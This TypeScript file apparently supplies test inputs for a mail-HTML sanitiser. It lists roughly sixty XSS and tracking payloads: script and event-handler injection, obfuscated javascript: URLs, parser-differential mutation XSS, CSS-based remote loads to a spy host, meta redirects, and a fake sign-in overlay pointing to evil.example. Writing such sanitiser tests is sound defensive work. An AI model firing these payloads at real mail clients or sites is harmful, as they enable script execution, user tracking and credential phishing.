/**
 * What has been tried against those who show HTML of mails: each line sets `window.attacked`, asks another server for something,
 * moves the page, or covers it. Gathered from what is public about mail programs and sanitisers, and written anew.
 */
export function attacks(site: string): readonly string[] {
  const run = 'window.attacked=top.attacked=1;alert(1)'
  const spy = (name: string) => `${site}/${name}`
  return [
    // Scripts and handlers
    `<script>${run}</script>`,
    `<SCRIPT SRC="${spy('script.js')}"></SCRIPT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<img src=x onerror="${run}">`,
    `<img src="x" onerror
="${run}">`,
    `<img/src="x"/onerror=${run}>`,
    `<body onload="${run}" background="${spy('body.png')}">`,
    `<p onmouseover="${run}" onfocus="${run}" tabindex="0" autofocus>p</p>`,
    `<details open ontoggle="${run}"><summary>d</summary></details>`,
    `<marquee onstart="${run}">m</marquee>`,
    `<video autoplay onloadstart="${run}" poster="${spy('poster.png')}"><source src="${spy('v.mp4')}" onerror="${run}"></video>`,
    `<audio src="${spy('a.mp3')}" autoplay></audio>`,
    // Addresses that run
    `<a href="javascript:${run}">j</a>`,
    `<a href="&#106;&#97;&#118;a&Tab;script&colon;${run}">j</a>`,
    `<a href="java\u0000script:${run}">j</a>`,
    `<a href=" \u0001javascript:${run}">j</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>`,
    `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`,
    `<iframe src="${spy('frame')}">`,
    `</iframe><object data="${spy('object.swf')}"><embed src="${spy('embed.swf')}"></object>`,
    `<form action="javascript:${run}"><input type="image" src="${spy('input.png')}"><button formaction="${spy('go')}">b</button></form>`,
    `<isindex action="javascript:${run}" type=image>`,
    // Moving the page, and asking by other means
    `<meta http-equiv="refresh" content="0;url=${spy('refresh')}">`,
    `<base href="${spy('base/')}" target="_top">`,
    `<link rel="stylesheet" href="${spy('style.css')}"><link rel="prefetch" href="${spy('prefetch')}"><link rel="dns-prefetch" href="//spy.example">`,
    `<style>@import "${spy('import.css')}"; * { background: url(${spy('css.png')}) } body::before { content: url(${spy('before.png')}) }</style>`,
    `<img srcset="${spy('srcset.png')} 2x" src="">`,
    `<picture><source srcset="${spy('picture.png')}"><img src="${spy('img.png')}"></picture>`,
    `<table background="${spy('table.png')}"><td background="${spy('td.png')}">t</td></table>`,
    `<img src="${spy('remote.png')}" alt="a picture that nobody asked for"><img src="//127.0.0.1:1/x.png"><img lowsrc="${spy('low.png')}" dynsrc="${spy('dyn.png')}">`,
    `<a href="https://ok.example" ping="${spy('ping')}">ping</a>`,
    `<p style="background-image:url('${spy('style.png')}')">s</p>`,
    `<p style="background:u\\72l(${spy('escaped.png')})">s</p>`,
    `<p style="list-style-image:url(${spy('list.png')});cursor:url(${spy('cursor.png')}),auto">s</p>`,
    `<p style="width:expression(${run});behavior:url(${spy('x.htc')});-moz-binding:url(${spy('x.xml#a')})">s</p>`,
    `<font face="url(${spy('font')})" color="expression(${run})">f</font>`,
    // Standing above the page
    `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Your session has ended. <a href="https://evil.example/login">Sign in</a></div>`,
    `<div style="position:absolute;top:-500px;left:-500px;width:9999px;height:9999px">above</div>`,
    // What parsers read in two ways
    `<svg onload="${run}"><script>${run}</script><animate attributeName=href values="javascript:${run}"/><image href="${spy('svg.png')}"/></svg>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></mglyph></table></mtext></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}"></style></mglyph></form></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><img src=x onerror="${run}"></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
    `<title><img title="</title><img src=x onerror=${run}>"></title>`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
    `<select><option><style></option></select><img src=x onerror="${run}"></style></option></select>`,
    `<!--[if gte mso 9]><script>${run}</script><![endif]-->`,
    `<!--><img src=x onerror="${run}">-->`,
    `<!-- --!><img src=x onerror="${run}"> -->`,
    `<![CDATA[<img src=x onerror="${run}">]]>`,
    `<?xml version="1.0"?><?import namespace="t" implementation="#default#time2">`,
    `<p title='"><img src=x onerror="${run}">'>title</p>`,
    `<a href='"onmouseover="${run}'>quoted</a>`,
    `<div id="root" name="attacked" class="message leads">clobbered</div><img name="attacked" id="attacked">`,
    `<p>END OF THE ATTACKS</p>`,
  ]
}
